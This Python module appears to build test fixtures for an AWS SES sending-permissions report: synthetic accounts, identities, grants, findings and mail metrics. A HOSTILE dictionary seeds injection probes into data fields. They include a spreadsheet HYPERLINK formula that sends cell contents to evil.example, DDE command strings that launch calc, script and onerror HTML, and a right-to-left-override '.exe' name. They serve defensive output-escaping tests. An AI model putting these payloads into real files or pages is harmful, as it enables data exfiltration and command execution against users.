"""The frames of the example pack: what an organization of 16 accounts would have, and what strangers put there."""

from __future__ import annotations

import math
import random
from collections.abc import Iterable, Mapping
from typing import Any

import pandas as pd
from money_sample import money_frames

from sesreport.analysis.anomalies import ANOMALIES
from sesreport.analysis.forecasts import FORECASTS
from sesreport.core import schema
from sesreport.core.period import Period

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "wide": "＝1+1",
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "script": "<script>window.pwned=1</script><img src=x onerror=window.pwned=1>",
    "closing": "</script><script>window.pwned=1</script><!--",
    "override": "invoice\u202efdp.exe",
    "control": "bell\x07 null\x00 escape\x1b[31m",
    "template": "{{ 7*7 }}${7*7}$x^2$",
    "long": "A" * 40_000,
}
REGIONS = ("eu-central-1", "eu-west-1", "us-east-1", "us-west-2")
PERIOD = Period(2026, 10)
_NAMES = (
    ("shop-prod", "prod"),
    ("shop-staging", "staging"),
    ("shop-dev", "dev"),
    ("crm-prod", "prod"),
    ("crm-dev", "dev"),
    ("billing-prod", "prod"),
    ("newsletter-prod", "prod"),
    ("newsletter-staging", "staging"),
    ("shared-services", "prod"),
    ("security-audit", "prod"),
    ("data-platform", "prod"),
    ("playground-anna", "sandbox"),
    ("playground-ben", "sandbox"),
    ("acquired-brand", "prod"),
    ("legacy-mail", "prod"),
    ("suspended-agency", "dev"),
)
ACCOUNTS = [f"{i:012d}" if i == 42 else f"{100000000000 + i * 7654321:012d}" for i in range(41, 57)]
_VENDORS = (
    ("210987654321", "Brightmail Agency", "valid", "2027-06-30"),
    ("310987654321", "Ticketing GmbH", "expiring", "2026-11-20"),
    ("410987654321", "Old Campaigns Ltd", "expired", "2026-03-31"),
    ("510987654321", "Survey People", "valid", "2027-02-28"),
    ("610987654321", "Payroll Partner", "valid", "2028-01-31"),
    ("010987654321", "Zero Leading AG", "expired", "2026-09-15"),
)
_UNKNOWN = [
    ("111122223333", None),
    ("123456789012", None),
    ("666655554444", "placeholder from documentation"),
    ("999988887777", None),
    ("012345678901", None),
]
_KINDS = {
    "text": schema.text,
    "id": schema.account_id,
    "int": schema.integer,
    "real": schema.real,
    "flag": schema.flag,
    "at": schema.at,
    "texts": schema.texts,
}
_SHAPES = {
    "accounts": (
        "account_id:id name:text status:text environment:text ou_path:text owner:text tags:text "
        "in_organization:flag email:text"
    ),
    "identities": (
        "account_id:id region:text identity:text arn:text identity_type:text verification_status:text "
        "owner:text ticket:text environment:text policies:int"
    ),
    "sending_accounts": (
        "account_id:id region:text sending_enabled:flag enforcement_status:text production_access:flag "
        "max_24_hour_send:real max_send_rate:real sent_last_24_hours:real bounce_rate:real "
        "complaint_rate:real"
    ),
    "coverage": ("account_id:id region:text dataset:text status:text reason:text calls:int rows:int seconds:real"),
    "register": (
        "account_id:id name:text vendor:text owner:text justification:text ticket:text approved_by:text "
        "approved_at:at expires_at:at identities:texts from_patterns:texts status:text"
    ),
    "grants": (
        "account_id:id region:text identity:text policy_name:text statement:int grantee:text sid:text "
        "effect:text grantee_kind:text grantee_account_id:text grantee_name:text scope:text "
        "actions:texts can_send:flag can_manage:flag from_patterns:texts any_from_address:flag "
        "conditions:texts registered:flag register_status:text grantee_environment:text "
        "identity_environment:text grantee_status:text why:text"
    ),
    "exposures": (
        "account_id:id region:text identity:text identity_type:text owner:text environment:text "
        "exposure:text needs_review:flag public:flag any_from_address:flag external_accounts:texts "
        "services:texts guarded:flag reasons:texts policies:int"
    ),
    "findings": (
        "fingerprint:text rule:text title:text severity:text account_id:id account_name:text region:text "
        "identity:text policy_name:text grantee:text evidence:text recommendation:text owner:text "
        "environment:text opened_at:at resolved_at:at status:text"
    ),
    "monthly": (
        "period:text account_id:id account_name:text environment:text sent:int delivered:int bounces:int "
        "complaints:int rejects:int bounce_rate:real complaint_rate:real complete:flag"
    ),
    "daily": ("account_id:id region:text at:at sent:int delivered:int bounces:int complaints:int rejects:int"),
    "changes_since": (
        "what:text change:text account_id:text region:text identity:text subject:text before:text "
        "after:text severity:text"
    ),
    "kpi_breakdown": (
        "kpi:text dimension:text group:text value:real numerator:real denominator:real unknown:int places_read:int "
        "places_expected:int status:text reason:text prior:real"
    ),
}
"""Each frame's columns, ``name:kind``."""


def names_of_frames() -> list[str]:
    return list(_SHAPES)


def frame(name: str, rows: Iterable[Mapping[str, Any]]) -> pd.DataFrame:
    """Rows as the frame of that name, with the dtypes every frame has."""
    columns = {column: _KINDS[kind]("") for column, _, kind in (part.partition(":") for part in _SHAPES[name].split())}
    return schema.Frame(name, "", {}, columns, unique=False).from_rows(rows)


def frames_of_example(findings: int | None) -> dict[str, pd.DataFrame]:
    random_ = random.Random(7)
    named = dict(zip(ACCOUNTS, _NAMES, strict=True))
    accounts = [
        {
            "account_id": a,
            "name": name if i != 13 else "acquired-brand <b>&",
            "status": "SUSPENDED" if i == 15 else "ACTIVE",
            "environment": env,
            "ou_path": f"/{env}/",
            "owner": f"team-{name.split('-')[0]}" if i % 4 else None,
            "in_organization": True,
        }
        for i, (a, (name, env)) in enumerate(named.items())
    ]
    classes = (
        ["none"] * 24
        + ["own"] * 16
        + ["organization"] * 9
        + ["service"] * 6
        + ["vendor"] * 7
        + ["external"] * 5
        + ["public"] * 3
    )
    identities, exposures, grants = [], [], []
    for i, exposure in enumerate(classes):
        account = ACCOUNTS[(i * 7 + i // 20) % 15]
        name, env = named[account]
        region = REGIONS[i % 3]
        identity = (
            f"{'mail' if i % 3 else 'news'}{i}.{name}.example.com" if i % 7 else f"billing+{i}@{name}.example.com"
        )
        if i == 69:
            identity = HOSTILE["script"]
        place = {"account_id": account, "region": region, "identity": identity}
        kind = "EMAIL_ADDRESS" if "@" in identity else "DOMAIN"
        owner = [f"team-{name.split('-')[0]}", None, "mail@example.com", f"team-{name.split('-')[0]}"][i % 4]
        if i == 68:
            owner = HOSTILE["formula"]
        policies = 0 if exposure == "none" else 1 + i % 3
        identities.append(
            {
                **place,
                "identity_type": kind,
                "verification_status": "SUCCESS",
                "owner": owner,
                "environment": env,
                "policies": policies,
            }
        )
        outside = (
            [_UNKNOWN[(i + n) % 5][0] for n in range(1 + i % 2)]
            if exposure in ("external", "public")
            else [_VENDORS[i % 6][0]]
            if exposure == "vendor"
            else []
        )
        exposures.append(
            {
                **place,
                "identity_type": kind,
                "owner": owner,
                "environment": env,
                "exposure": exposure,
                "needs_review": i % 9 == 0 and exposure != "none",
                "public": exposure == "public",
                "any_from_address": exposure in ("public", "external"),
                "external_accounts": outside,
                "services": ["ses.amazonaws.com"] if exposure == "service" else [],
                "guarded": None if exposure in ("none", "own") else i % 2 == 0,
                "reasons": [f"statement {n} allows ses:SendEmail" for n in range(policies)],
                "policies": policies,
            }
        )
        for n in range(policies if exposure != "none" else 0):
            vendor = next((v for v in _VENDORS if outside and v[0] == outside[0]), None)
            grantee = (
                "*"
                if exposure == "public" and n == 0
                else f"arn:aws:iam::{outside[n % len(outside)]}:root"
                if outside
                else f"arn:aws:iam::{ACCOUNTS[n]}:root"
            )
            grants.append(
                {
                    **place,
                    "policy_name": ["send", "AgencyPolicy", HOSTILE["plus"]][n] if i != 67 else HOSTILE["override"],
                    "statement": n,
                    "grantee": grantee,
                    "effect": "Allow",
                    "grantee_kind": "anyone" if grantee == "*" else "account",
                    "grantee_account_id": None if grantee == "*" else grantee.split(":")[4],
                    "grantee_name": vendor[1] if vendor else None,
                    "scope": "public" if grantee == "*" else "external" if exposure == "public" else exposure,
                    "actions": ["ses:SendEmail", "ses:SendRawEmail"],
                    "can_send": True if i % 11 else None,
                    "can_manage": False,
                    "from_patterns": ["*@example.com"] if n else [],
                    "any_from_address": n == 0,
                    "conditions": ["StringLike ses:FromAddress *@example.com"] if n else [],
                    "registered": bool(vendor),
                    "register_status": vendor[2] if vendor else None,
                    "grantee_environment": None,
                    "identity_environment": env,
                    "grantee_status": None,
                    "why": f"{grantee} is named by statement {n}",
                }
            )
    register = [
        {
            "account_id": a,
            "name": vendor.lower().replace(" ", "-"),
            "vendor": vendor,
            "owner": "marketing",
            "justification": "campaigns",
            "ticket": f"GOV-{i + 101}",
            "approved_by": "cio",
            "approved_at": pd.Timestamp("2024-01-15", tz="UTC") + pd.Timedelta(days=90 * i),
            "expires_at": pd.Timestamp(end, tz="UTC"),
            "identities": [],
            "from_patterns": ["*@example.com"],
            "status": status,
        }
        for i, (a, vendor, status, end) in enumerate(_VENDORS)
    ]
    coverage = [
        {
            "account_id": a,
            "region": region,
            "dataset": dataset,
            "status": "region_disabled"
            if region == "us-west-2" and i % 5 == 0
            else "denied"
            if i == 14
            else "throttled"
            if i == 6 and region == "us-east-1" and dataset == "sending"
            else "ok",
            "reason": "AccessDeniedException: not authorized to perform ses:ListEmailIdentities" if i == 14 else None,
            "calls": 3,
            "rows": 5,
            "seconds": 0.4,
        }
        for i, a in enumerate(ACCOUNTS)
        for region in REGIONS
        for dataset in ("identities", "policies", "sending", "metrics")
    ]
    sending_accounts = [
        {
            "account_id": a,
            "region": region,
            "sending_enabled": i != 4,
            "enforcement_status": "PROBATION" if i == 6 else "HEALTHY",
            "production_access": i not in (11, 12),
            "max_24_hour_send": -1.0 if i == 0 else 200.0 if i in (11, 12) else 50_000.0 * (i + 1),
            "max_send_rate": 14.0,
            "sent_last_24_hours": 1200.0 * i,
            "bounce_rate": None if i == 14 else [0.002, 0.011, 0.004, 0.0312, 0.0009][i % 5] if i != 6 else 0.061,
            "complaint_rate": None if i == 14 else 0.0002 * (i % 4) if i != 8 else 0.0013,
        }
        for i, a in enumerate(ACCOUNTS)
        for region in REGIONS[:2]
    ]
    monthly, daily = [], []
    for i, (a, (name, env)) in enumerate(named.items()):
        size = {"prod": 240_000, "staging": 9_000, "dev": 2_500, "sandbox": 60}[env] * (1 + i % 5)
        for m, period in enumerate(PERIOD.back(13)):
            if m == 4:
                continue
            sent = int(size * (1 + m / 30 + 0.15 * math.sin(m)))
            monthly.append(
                {
                    "period": str(period),
                    "account_id": a,
                    "account_name": name,
                    "environment": env,
                    "sent": None if i == 14 else sent,
                    "delivered": int(sent * 0.98),
                    "bounces": int(sent * 0.012),
                    "complaints": int(sent * 0.0003),
                    "rejects": 0,
                    "bounce_rate": None if i == 14 else 0.012,
                    "complaint_rate": None if i == 14 else 0.0003,
                    "complete": i != 14 and not (m == 8 and i == 3),
                }
            )
        for day in pd.date_range("2026-09-01", "2026-10-31", freq="D", tz="UTC"):
            if day.day == 9:
                continue
            sent = int(
                size
                / 30
                * (1.2 if day.weekday() < 5 else 0.4)
                * (0.95 + random_.random() * 0.1)
                * (2.6 if day.day == 27 and env == "prod" else 1)
            )
            daily.append(
                {
                    "account_id": a,
                    "region": REGIONS[0],
                    "at": day,
                    "sent": sent,
                    "delivered": sent,
                    "bounces": sent // 90,
                    "complaints": 0,
                    "rejects": 0,
                }
            )
    rules = [
        ("SES001", "Anyone may send", "critical"),
        ("SES002", "Account outside the register may send", "high"),
        ("SES003", "Approval has expired", "high"),
        ("SES004", "Service without source account", "medium"),
        ("SES005", "Identity without owner", "low"),
        ("SES006", "Development may send as production", "medium"),
        ("SES007", "Policy cannot be parsed", "critical"),
    ]
    hostile = list(HOSTILE.values())
    rows = []
    for i in range(findings or 83):
        rule, title, severity = rules[random_.choice((0, 1, 1, 1, 2, 2, 3, 4, 4, 4, 5, 6)) if i > 2 else 0]
        e = exposures[i % len(exposures)]
        rows.append(
            {
                "fingerprint": f"{i * 2654435761 % 2**48:012x}",
                "rule": rule,
                "title": title,
                "severity": severity,
                "account_id": e["account_id"],
                "account_name": named[e["account_id"]][0],
                "region": e["region"],
                "identity": e["identity"],
                "policy_name": "send",
                "grantee": "*" if rule == "SES001" else f"arn:aws:iam::{_UNKNOWN[i % 5][0]}:root",
                "evidence": hostile[i]
                if i < len(hostile)
                else f"statement {i % 4} of policy send allows ses:SendRawEmail",
                "recommendation": "Name the accounts that may send and add aws:SourceAccount",
                "owner": e["owner"],
                "environment": e["environment"],
                "opened_at": None
                if i % 6 == 0
                else pd.Timestamp("2026-04-03T08:00:00", tz="UTC") + pd.Timedelta(days=i % 190),
                "status": "excepted" if i % 17 == 16 else "open",
            }
        )
    kinds = [
        ("grant", "added", 9),
        ("grant", "removed", 4),
        ("identity", "added", 6),
        ("identity", "removed", 1),
        ("owner", "changed", 5),
        ("exposure", "changed", 3),
    ]
    changes = [
        {
            "what": what,
            "change": change,
            **{k: exposures[(n * 7 + j) % 70][k] for k in ("account_id", "region", "identity")},
            "subject": f"arn:aws:iam::{_UNKNOWN[n % 5][0]}:root" if what == "grant" else what,
            "before": None if change == "added" else "none",
            "after": None if change == "removed" else "external",
            "severity": "high" if what in ("grant", "exposure") and change != "removed" else "low",
        }
        for j, (what, change, count) in enumerate(kinds)
        for n in range(count)
    ]
    made = {
        "accounts": accounts,
        "identities": identities,
        "sending_accounts": sending_accounts,
        "coverage": coverage,
        "register": register,
        "grants": grants,
        "exposures": exposures,
        "findings": rows,
        "monthly": monthly,
        "daily": daily,
        "changes_since": changes,
        "kpi_breakdown": _breakdown(),
    }
    trends = {declared.name: declared.from_rows(declared.samples) for declared in (ANOMALIES, FORECASTS)}
    return {**{name: frame(name, rows) for name, rows in made.items()}, **trends, **_money(accounts)}


def _money(accounts: list[dict[str, Any]]) -> dict[str, pd.DataFrame]:
    """With an owner and a subject of a stranger's."""
    owners = [*HOSTILE.values()]
    return money_frames(
        [{**account, "owner": owners[i] if i < len(owners) else None} for i, account in enumerate(accounts)]
    )


def _breakdown() -> list[dict[str, Any]]:
    """One KPI by environment, owner and account; the last account was not read."""
    groups = [("environment", "prod"), ("environment", "dev"), ("owner", "team <b>&"), ("owner", "(no owner)")]
    groups += [("account", account) for account in ACCOUNTS]
    return [
        {
            "kpi": "public_identities",
            "dimension": dimension,
            "group": group,
            "value": None if group == ACCOUNTS[-1] else i % 3,
            "unknown": 0,
            "places_read": 0 if group == ACCOUNTS[-1] else 4,
            "places_expected": 4,
            "status": "not measurable" if group == ACCOUNTS[-1] else "off target" if i % 3 else "on target",
            "reason": "Not read: 4 denied." if group == ACCOUNTS[-1] else None,
        }
        for i, (dimension, group) in enumerate(groups)
    ]
